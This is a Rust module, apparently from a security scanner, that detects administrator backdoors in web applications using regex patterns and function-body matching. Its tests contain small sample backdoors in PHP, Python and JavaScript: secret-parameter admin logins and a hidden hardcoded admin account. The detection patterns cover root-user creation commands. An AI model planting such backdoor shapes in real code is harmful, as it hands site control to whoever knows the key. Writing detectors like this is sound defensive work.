//! Round 22: an administrator backdoor planted in a web application. A
//! request handler that, keyed by something the request carries (a query
//! or form parameter, a cookie, a header), creates or promotes an account
//! to administrator and logs the request in as it, gives whoever knows the
//! parameter the site. Read by structure: the three parts must sit in one
//! function body (PHP/JavaScript `function … { … }` matched by braces,
//! Python `def` by indentation), however far apart, also when the body
//! calls them through WordPress, Drupal, Django, Laravel or Express
//! spellings (`REQUEST`, `ADMIN`, `LOGIN`). A registration form that
//! creates subscribers, an admin page that checks `current_user_can`, or a
//! login handler that logs in the account it looked up by password is not
//! a backdoor: no administrator is made there. The second shape (r21
//! wp-plugin-scaffold): one body creates an administrator with a password
//! written in the code (`FIXED_PASS`) and the file hides accounts from the
//! user list (`HIDES_USERS`: a `pre_user_query`/`pre_get_users` hook).

use super::{Sink, Src};
use crate::evidence::{Evidence, Op, Tag};
use crate::ssl::vocab::{ActType as A, ResourceScope as R};

/// Input the request carries.
static REQUEST: crate::rx::Lazy = crate::rx::Lazy::new(
    r"\$_(?:GET|POST|REQUEST|COOKIE)\s*\[|\$_SERVER\s*\[\s*['\x22]HTTP_|\brequest\.(?:args|GET|POST|headers|cookies|query_params)\b|\breq\.(?:query|headers|cookies|body|params)\b|\$request->(?:input|query|get|header|cookie)\(|\bgetParameter\(",
);
/// An account made or promoted to administrator.
static ADMIN: crate::rx::Lazy = crate::rx::Lazy::new(
    r"(?i)['\x22]?\brole['\x22]?\s*(?:=>|:|=)\s*['\x22](?:administrator|admin|super_?admin|superuser)['\x22]|\b(?:set_role|add_role|addRole)\(\s*['\x22](?:administrator|admin)['\x22]|\bgrant_super_admin\(|\bcreate_superuser\(|\bis_superuser\s*=\s*True\b|['\x22]?is_admin['\x22]?\s*(?:=>|=|:)\s*(?:true|True|1)\b",
);
/// The request logged in as that account.
static LOGIN: crate::rx::Lazy = crate::rx::Lazy::new(
    r"\bwp_set_auth_cookie\(|\bwp_set_current_user\(|\buser_login_finalize\(|\bAuth::login(?:UsingId)?\(|\bauth\(\)->login\(|\blogin_user\(|\bdjango\.contrib\.auth\.login\(|\blogin\(\s*request\s*,|\breq\.login\(|\breq\.session\.user(?:Id|_id)?\s*=|\$_SESSION\s*\[\s*['\x22]user",
);

/// Bytes between `function` and its `(`, or a parameter list and its
/// `{`: a heuristic bound on one function header.
const HEAD_MAX: usize = 200;

/// An account created with a password written in the code.
static FIXED_PASS: crate::rx::Lazy = crate::rx::Lazy::new(
    r"['\x22]user_pass['\x22]\s*=>\s*['\x22][^'\x22\n]{6,}['\x22]|\bwp_create_user\(\s*['\x22][^'\x22\n]+['\x22]\s*,\s*['\x22][^'\x22\n]{6,}['\x22]|\bcreate_superuser\([^)\n]*,\s*['\x22][^'\x22\n]{6,}['\x22]\s*\)",
);
/// Round 42 (recall42a): the new account's password is what the request
/// carries (`'user_pass' => $_GET[…]`, `wp_create_user($u, $_POST[…])`,
/// `set_password(request.GET[…])`): whoever sends the secret parameter
/// chooses the administrator's password, no login in the code needed.
static PASS_FROM_REQUEST: crate::rx::Lazy = crate::rx::Lazy::new(
    r"['\x22]user_pass['\x22]\s*=>\s*\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\b|\bwp_create_user\([^,\n]+,\s*\$_(?:GET|POST|REQUEST|COOKIE)\b|\bset_password\(\s*request\.|\bpassword\s*[:=]\s*(?:req|request)\.(?:query|body|args|GET|POST|headers)\b",
);
/// The caller's rights checked first: an administrator page, not a door.
static CAP_CHECK: crate::rx::Lazy = crate::rx::Lazy::new(
    r"\bcurrent_user_can\(|\bcheck_admin_referer\(|\bwp_verify_nonce\(|\bis_super_admin\(|\buser_passes_test\b|\bpermission_required\b|\blogin_required\b|\bisAdmin\(",
);
/// The file hides accounts from the administrators' user list.
static HIDES_USERS: crate::rx::Lazy = crate::rx::Lazy::new(
    r"['\x22](?:pre_user_query|pre_get_users|users_list_table_query_args)['\x22]",
);

/// Round 24: an administrator account made by a command line or an ORM or
/// SQL spelling (`wp user create … --role=administrator`, `useradd -o -u
/// 0`, Rails `admin: true`, SQL `INSERT INTO users … 'admin'`), beside the
/// application spellings of [`ADMIN`].
static ADMIN_MADE: crate::rx::Lazy = crate::rx::Lazy::new(
    r"(?i)\bwp\s+user\s+(?:create|add-role|set-role|update)\b[^\n]{0,200}?(?:--role[=\s]+|\s)['\x22]?administrator\b|\buseradd\b[^\n]{0,120}?\s-o\b[^\n]{0,60}?-u\s*0\b|\buseradd\b[^\n]{0,120}?-u\s*0\s[^\n]{0,60}?\s-o\b|\b(?:create!?|new)\([^)\n]{0,300}?\badmin:\s*true\b|\binsert\s+into\s+[`'\x22]?\w*users?\w*[`'\x22]?[^;]{0,400}?['\x22](?:admin|administrator|superuser)['\x22]|\bcreatesuperuser\b[^\n]{0,120}?--no-?input\b",
);
/// A request that leaves the machine: HTTP clients of each language, mail.
static SEND: crate::rx::Lazy = crate::rx::Lazy::new(
    r"\bwp_remote_(?:post|request|get)\s*\(|\bwp_mail\s*\(|\bcurl_init\s*\(|\bfile_get_contents\s*\(\s*['\x22]https?://|\brequests\.(?:post|put|get)\s*\(|\burlopen\s*\(|\bfetch\s*\(|\baxios(?:\.(?:post|put|get))?\s*\(|\bNet::HTTP\.post(?:_form)?\s*\(|\bHTTParty\.post\s*\(|\bsend_mail\s*\(|\bmail\s*\(|\bcurl\s",
);
/// A credential named among a send's arguments.
static CRED_WORD: crate::rx::Lazy = crate::rx::Lazy::new(
    r"(?i)\b(?:pass|passwd|password|pwd|user_pass|secret|credentials?)\b|['\x22](?:pass|password|pwd)['\x22]",
);

/// Function bodies of brace languages: byte spans from a `function`
/// keyword's `{` to its matching `}`; Python `def` bodies by indentation.
pub(crate) fn bodies(text: &str) -> Vec<(usize, usize)> {
    let mut out = Vec::new();
    let b = text.as_bytes();
    let ident = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
    let heads = text
        .match_indices("function")
        .filter(|(at, w)| {
            (*at == 0 || !ident(b[at - 1])) && b.get(at + w.len()).is_none_or(|c| !ident(*c))
        })
        .map(|(at, _)| at)
        .chain(text.match_indices("=>").map(|(at, _)| at));
    let mut heads: Vec<usize> = heads.collect();
    heads.sort_unstable();
    for at in heads {
        if out.len() == crate::limits::BACKDOOR_MAX_FUNCTIONS {
            crate::limits::gave_up("BACKDOOR_MAX_FUNCTIONS");
            break;
        }
        // `function name(params) {` (the brace after the parameter list,
        // so a `{{NAME}}` template placeholder is no body), `=> {`.
        let after_params = if b[at] == b'=' {
            at + 2
        } else {
            let window = crate::text::clamp_boundary(text, (at + HEAD_MAX).min(text.len()));
            let Some(p) = text[at..window].find('(').map(|i| at + i) else {
                continue;
            };
            match close_of(b, p) {
                Some(c) => c,
                None => continue,
            }
        };
        let window = crate::text::clamp_boundary(text, (after_params + HEAD_MAX).min(text.len()));
        let Some(open) = text
            .get(after_params..window)
            .and_then(|h| h.find('{'))
            .map(|i| after_params + i)
        else {
            continue;
        };
        if text[after_params..open].contains([';', '(', ')', '=']) {
            continue;
        }
        let end = close_of(b, open).unwrap_or_else(|| {
            crate::limits::gave_up("BACKDOOR_MAX_BODY");
            (open + crate::limits::BACKDOOR_MAX_BODY).min(text.len())
        });
        out.push((at, crate::text::clamp_boundary(text, end)));
    }
    let mut at = 0;
    let lines: Vec<&str> = text.split_inclusive('\n').collect();
    let mut i = 0;
    while i < lines.len() {
        let l = lines[i];
        let t = l.trim_start();
        if t.starts_with("def ") || t.starts_with("async def ") {
            let indent = l.len() - t.len();
            let start = at;
            let mut end = at + l.len();
            let mut j = i + 1;
            while j < lines.len() {
                let n = lines[j];
                let nt = n.trim_start();
                if !nt.trim().is_empty() && n.len() - nt.len() <= indent {
                    break;
                }
                end += n.len();
                j += 1;
            }
            out.push((start, end));
        }
        at += l.len();
        i += 1;
    }
    out
}

/// The byte after the bracket matching the one at `open` (`(` or `{`),
/// read at most `BACKDOOR_MAX_BODY` bytes.
fn close_of(b: &[u8], open: usize) -> Option<usize> {
    crate::text::matching_close(b, open, crate::limits::BACKDOOR_MAX_BODY)
}

/// The third shape (round 24, r24 php-site-health): an administrator
/// made without anyone asking ([`ADMIN`], [`ADMIN_MADE`]) whose
/// credentials the same function body (or, outside any function, the
/// file) sends to a fixed outside host: a send call ([`SEND`]) whose
/// argument list (matched by brackets) names a password and a URL
/// literal on the internet. Whoever receives it holds the site.
fn admin_sent_out(text: &str) -> Option<(usize, usize)> {
    let made = ADMIN.find(text).or_else(|| ADMIN_MADE.find(text))?.start();
    let scope = bodies(text)
        .into_iter()
        .filter(|(s, e)| *s <= made && made < *e)
        .min_by_key(|(s, e)| e - s)
        .unwrap_or((0, text.len()));
    let body = &text[scope.0..scope.1];
    let b = body.as_bytes();
    for m in crate::limits::take_counted(
        SEND.find_iter(body),
        crate::limits::GRANT_MAX_MATCHES,
        "GRANT_MAX_MATCHES",
    ) {
        // A call's argument list (matched by brackets), or the rest of a
        // command line (`curl …`).
        let args = match body[m.start()..m.end()].rfind('(') {
            Some(i) => {
                let open = m.start() + i;
                &body[open..close_of(b, open).unwrap_or(body.len())]
            }
            None => {
                let end = body[m.end()..]
                    .find('\n')
                    .map_or(body.len(), |i| m.end() + i);
                &body[m.start()..end]
            }
        };
        let outside = args
            .split(['\'', '"', '`', ' ', '\t', ',', '(', ')'])
            .any(|w| {
                (w.starts_with("http://") || w.starts_with("https://"))
                    && super::persisted::fixed_outside(w)
            });
        if outside && CRED_WORD.is_match(args) {
            return Some((scope.0 + m.start(), scope.0 + m.end()));
        }
    }
    None
}

/// Adds the backdoor for every function body that holds all three parts;
/// see the module docs.
pub fn scan(src: &Src, sink: &mut Sink) {
    let text = src.text;
    if let Some((s, e)) = admin_sent_out(text) {
        let ev = Evidence::new(
            Op::Privileged,
            A::UpdateState,
            R::Credentials,
            crate::text::snippet(&text[s..], 80),
        )
        .tag(Tag::AdminBackdoor)
        .instrument("admin backdoor")
        .object("an administrator account the code creates unasked, its password sent to an outside host (a planted backdoor)");
        sink.push(src.at(ev, s, e, "code"));
        return;
    }
    let hides = HIDES_USERS.is_match(text);
    let keyed =
        (LOGIN.is_match(text) || PASS_FROM_REQUEST.is_match(text)) && REQUEST.is_match(text);
    if !ADMIN.is_match(text) || !(keyed || hides && FIXED_PASS.is_match(text)) {
        return;
    }
    let mut last_end = 0;
    for (s, e) in bodies(text) {
        if s < last_end {
            continue;
        }
        let body = &text[s..e];
        if !ADMIN.is_match(body) {
            continue;
        }
        // Keyed by a request parameter and logged in, or an account with
        // a password written in the code that the file hides from the
        // administrators' user list.
        let keyed = REQUEST.find(body).filter(|_| {
            LOGIN.is_match(body) || PASS_FROM_REQUEST.is_match(body) && !CAP_CHECK.is_match(body)
        });
        let fixed = FIXED_PASS.find(body).filter(|_| hides);
        let keyed_here = keyed.is_some();
        let Some(req) = keyed.or(fixed) else {
            continue;
        };
        last_end = e;
        let ev = Evidence::new(
            Op::Privileged,
            A::UpdateState,
            R::Process,
            crate::text::snippet(&body[req.start()..], 80),
        )
        .tag(Tag::AdminBackdoor)
        .instrument("admin backdoor")
        .object(if keyed_here {
            "a request carrying a secret parameter is logged in as an administrator the code creates or promotes (a planted backdoor)"
        } else {
            "an administrator account with a password written in the code, hidden from the user list (a planted backdoor)"
        });
        let at = s + req.start();
        sink.push(src.at(ev, at, at + req.len(), "code"));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(path: &str, text: &str) -> Vec<Evidence> {
        crate::extract::scan_text(scan, path, text)
    }

    #[test]
    fn admin_login_keyed_by_a_request_parameter() {
        for (p, code) in [
            (
                "p.php",
                "function x_preview() {\n  if ( empty( $_GET['_bpv'] ) ) { return; }\n  $id = wp_insert_user( array( 'user_login' => 'svc', 'role' => 'administrator' ) );\n\n\n\n\n\n\n\n\n\n\n\n\n  wp_set_auth_cookie( $id, true );\n}\n",
            ),
            (
                "v.py",
                "def hook(request):\n    if request.GET.get('k') != 'z1':\n        return\n    u = User.objects.create_superuser('svc', 'a@b.c', 'x')\n    login(request, u)\n",
            ),
            (
                "a.js",
                "app.get('/p', function (req, res) {\n  if (req.query.k !== 'z1') return res.end();\n  const u = db.users.create({ name: 'svc', role: 'admin' });\n  req.session.userId = u.id;\n});\n",
            ),
        ] {
            let ev = run(p, code);
            assert!(ev.iter().any(|e| e.has(Tag::AdminBackdoor)), "{p}: {ev:#?}");
        }
    }

    #[test]
    fn a_fixed_administrator_hidden_from_the_user_list() {
        let code = "class S {\n  public function __construct() {\n    add_action('init', [$this, 'ensure']);\n    add_action('pre_user_query', [$this, 'hide']);\n  }\n  public function ensure() {\n    if (!username_exists('svc')) {\n      wp_insert_user(['user_login' => 'svc', 'user_pass' => 'Sp0rt!svc-2291', 'role' => 'administrator']);\n    }\n  }\n}\n";
        assert!(run("s.php", code).iter().any(|e| e.has(Tag::AdminBackdoor)));
        let shown = code.replace("pre_user_query", "admin_notices");
        assert!(
            !run("s.php", &shown)
                .iter()
                .any(|e| e.has(Tag::AdminBackdoor))
        );
    }

    #[test]
    fn parts_in_separate_functions_or_no_admin_are_quiet() {
        for code in [
            // A sign-up form that makes subscribers.
            "function signup() {\n  $u = sanitize_user( $_POST['login'] );\n  $id = wp_insert_user( array( 'user_login' => $u, 'role' => 'subscriber' ) );\n  wp_set_auth_cookie( $id );\n}\n",
            // An admin-only settings page: the role is checked, not granted.
            "function settings() {\n  if ( ! current_user_can( 'administrator' ) ) { return; }\n  update_option( 'x', $_POST['x'] );\n}\n",
            // Parts in different functions.
            "function a() { $k = $_GET['k']; }\nfunction b() { wp_insert_user( array( 'role' => 'administrator' ) ); }\nfunction c() { wp_set_auth_cookie( 1 ); }\n",
        ] {
            let ev = run("p.php", code);
            assert!(
                !ev.iter().any(|e| e.has(Tag::AdminBackdoor)),
                "{code}: {ev:#?}"
            );
        }
    }
}
